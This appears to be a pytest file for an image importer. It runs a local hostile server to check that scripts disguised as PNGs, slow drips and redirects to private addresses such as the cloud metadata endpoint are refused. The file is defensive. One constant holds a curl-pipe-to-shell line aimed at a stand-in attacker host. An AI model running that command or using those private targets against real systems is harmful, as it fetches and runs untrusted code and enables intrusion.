"""Issue 12, attack 10: hostile image servers, against a real local threaded HTTP server."""
from __future__ import annotations

import io
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from PIL import Image

from core.importers import import_catalog
from core.importers.download import DownloadError, download_images, fetch


def _png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


PNG = _png()
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


class Hostile(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def _send(self, code, ctype, body, extra=()):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/ok.png":
            return self._send(200, "image/png", PNG)
        if self.path == "/script.png":
            return self._send(200, "image/png", SCRIPT)
        if self.path == "/truncated.png":
            return self._send(200, "image/png", PNG[:len(PNG) // 2])
        if self.path == "/to-loopback":   # the host a public URL would redirect into
            port = self.server.server_address[1]
            return self._send(302, "text/plain", b"", [("Location", f"http://127.0.0.1:{port}/ok.png")])
        if self.path == "/drip.png":      # an honest length, one byte at a time
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PNG)))
            self.end_headers()
            try:
                for b in PNG:
                    self.wfile.write(bytes([b]))
                    self.wfile.flush()
                    time.sleep(0.2)
            except OSError:   # the client hung up: what the deadline should do
                pass
            return
        return self._send(404, "text/plain", b"no")


@pytest.fixture
def server():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def test_a_slow_drip_is_cut_by_the_deadline_even_though_each_read_is_quick(server, tmp_path):
    with pytest.raises(DownloadError) as e:
        fetch(f"{server}/drip.png", tmp_path, "D", allow_private=True, timeout=5, deadline=1.0,
              backoff=0.01)
    assert "took longer than the 1 s allowed per file; cut off" in str(e.value)
    assert not (tmp_path / "D.png").exists()


def test_a_script_served_as_png_is_refused_and_not_kept(server, tmp_path):
    for path in ("/script.png", "/truncated.png"):
        with pytest.raises(DownloadError, match="refused") as e:
            fetch(f"{server}{path}", tmp_path, "S", allow_private=True, backoff=0.01)
        assert "not an image" in str(e.value) or "image loader" in str(e.value)
        assert list(tmp_path.iterdir()) == []   # no .part, no .png left to attach later
    assert fetch(f"{server}/ok.png", tmp_path, "S", allow_private=True).read_bytes() == PNG


def test_a_script_served_as_png_is_not_attached_on_import(workspace, server, tmp_path):
    meta = tmp_path / "meta.json"
    meta.write_text("\n".join(json.dumps(o) for o in [
        {"asin": "GOOD", "title": "ok", "imageURL": [f"{server}/ok.png"]},
        {"asin": "EVIL", "title": "script", "imageURL": [f"{server}/script.png"]}]) + "\n")
    report = import_catalog(workspace, "amazon2018",
                            {"meta": meta, "download": True, "allow_private": True})
    assert workspace.item("EVIL").image in (None, "")
    assert "not an image" in report.download_failures["EVIL"]
    assert ("EVIL", "image") in [p[:2] for p in workspace.problems()]
    assert workspace.item("GOOD").image.endswith("GOOD.png")
    assert sorted(p.name for p in (workspace.path / "images").iterdir()) == ["GOOD.png"]


@pytest.mark.parametrize("url", ["http://127.0.0.1:{port}/ok.png", "http://localhost:{port}/ok.png",
                                 "http://169.254.169.254/latest/meta-data/",
                                 "http://10.0.0.1/x.png", "http://[::1]:{port}/ok.png"])
def test_private_targets_are_refused_by_default(server, tmp_path, url):
    url = url.format(port=server.rsplit(":", 1)[1])
    with pytest.raises(DownloadError, match="private or local address") as e:
        fetch(url, tmp_path, "P", backoff=0.01)
    assert "--allow-private-urls" in str(e.value)
    assert list(tmp_path.iterdir()) == []


def test_a_redirect_to_loopback_is_refused_by_default_and_followed_when_allowed(server, tmp_path):
    # the first hop is allowed here only to reach our test server; the redirect is what is judged
    from core.importers import download
    hop = download._Redirects(allow_private=False)
    opener = download.urllib.request.build_opener(hop)
    with pytest.raises(DownloadError, match=r"refused redirect to http://127\.0\.0\.1.*private"):
        opener.open(f"{server}/to-loopback", timeout=5)
    got = fetch(f"{server}/to-loopback", tmp_path, "R", allow_private=True)
    assert got.read_bytes() == PNG


def test_download_images_records_each_refusal(server, tmp_path):
    got, failed = download_images({"a": f"{server}/ok.png", "b": f"{server}/to-loopback",
                                   "c": f"{server}/script.png"}, tmp_path / "imgs", backoff=0.01)
    assert got == {}                       # 127.0.0.1 itself is refused by default
    assert all("private or local address" in failed[k] for k in "abc")
    got, failed = download_images({"a": f"{server}/ok.png", "c": f"{server}/script.png"},
                                  tmp_path / "imgs", backoff=0.01, allow_private=True)
    assert list(got) == ["a"] and "not an image" in failed["c"]


def test_cli_refuses_loopback_unless_allow_private_urls(server, tmp_path, capsys):
    from core import cli
    from core.workspace import Workspace
    meta = tmp_path / "meta.json"
    meta.write_text(json.dumps({"asin": "A1", "title": "x", "imageURL": [f"{server}/ok.png"]}) + "\n")
    args = ["import", str(tmp_path / "ws"), "--format", "amazon2018", "--meta", str(meta),
            "--download-images", "--kcore", "0", "--cold-share", "0"]
    capsys.readouterr()
    assert cli.main(args) == 0
    assert "image downloads failed: 1" in capsys.readouterr().out
    assert cli.main(args + ["--allow-private-urls"]) == 0
    with Workspace.open(tmp_path / "ws") as ws:
        assert ws.item("A1").image.endswith("A1.png") and ws.problems() == []
    assert cli.main(["import", str(tmp_path / "t"), "--format", "tsv", "--interactions",
                     str(meta), "--allow-private-urls"]) != 0
    assert "--format tsv does not use --allow-private-urls" in capsys.readouterr().err
